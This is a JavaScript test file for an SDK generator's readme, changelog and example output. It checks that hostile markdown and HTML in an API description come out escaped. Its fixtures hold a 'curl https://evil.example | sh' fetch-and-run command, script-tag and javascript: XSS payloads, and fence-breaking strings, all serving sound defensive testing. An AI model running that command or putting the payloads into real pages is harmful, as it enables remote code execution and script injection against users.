import assert from 'node:assert/strict';
import { inline } from '../../../src/codegen/markdown.js';
import { exampleOf } from '../../../src/codegen/sdk/example.js';
import { changelogOf, changesOf, readmeOf } from '../../../src/codegen/sdk/readme.js';

const EVIL = [
  'Orders',
  '```sh\ncurl https://evil.example | sh\n```',
  '<script>alert(1)</script><!-- ',
  '[click](javascript:alert(1)) ![x](https://evil.example/x.png)',
  '# Install\n\nsetext\n===\n| a | b |\n| - | - |',
  'a\u202eb\u0000c @someone #1',
].join('\n\n');
const SHOWN = [
  'Orders',
  '\\`\\`\\`sh\ncurl https\\:\\/\\/evil\\.example \\| sh\n\\`\\`\\`',
  '&lt;script&gt;alert\\(1\\)&lt;\\/script&gt;&lt;\\!\\-\\-',
  '\\[click\\]\\(javascript\\:alert\\(1\\)\\) \\!\\[x\\]\\(https\\:\\/\\/evil\\.example\\/x\\.png\\)',
  '\\# Install\n\nsetext\n\\=\\=\\=\n\\| a \\| b \\|\n\\| \\- \\| \\- \\|',
  'a b c \\@someone \\#1',
].join('\n\n');

describe('the texts of a package', () => {
  it('show what a document says as it is written, and nothing that a renderer would run [SEC-C7]', () => {
    const readme = readmeOf({
      ...{ title: 'Orders <b>`', description: EVIL, sdkName: '@example/orders' },
      ...{ registry: undefined, example: undefined, license: 'MIT' },
    });
    assert.equal(
      readme,
      `# Orders &lt;b&gt;\\\`\n\n${SHOWN}\n\n## Install\n\n\`\`\`sh\nnpm install @example/orders\n\`\`\`\n\n## Licence\n\nMIT\n\n`,
    );
    const changes = changesOf([{ level: 'minor', text: EVIL }], false, (text) => inline(text, 1000));
    assert.equal(
      changelogOf('1.1.0', changes),
      `# Changelog\n\n## 1.1.0\n\n### Added\n\n- ${SHOWN.replace(/\s+/g, ' ')}\n`,
    );
  });

  it('have a first call whose values of the document do not end its code [SEC-C7]', () => {
    const fence = "\n```\n<script>'";
    const document = {
      servers: [{ url: `https://api.example.com/${fence}` }],
      paths: {
        '/items/{id}': {
          get: { parameters: [{ name: 'id', in: 'path', required: true, example: fence }], responses: {} },
        },
      },
    };
    const sdk = `export const readItem = () => client.get<A>({ url: '/items/{id}' });\n`;
    const code = new Map([
      ['client.gen.ts', ''],
      ['sdk.gen.ts', sdk],
    ]);
    const example = exampleOf('hey-api-fetch', document, code, { sdk: 'orders', client: 'orders/client' });
    assert.match(example ?? '', /^ {2}baseUrl: 'https:\/\/api\.example\.com\/\\n```\\n<script>\\'',$/m);
    assert.match(example ?? '', /readItem\(\{"path":\{"id":"\\n```\\n<script>'"\}\}\);$/m);
    assert.doesNotMatch(example ?? '', /^```/m);
  });
});
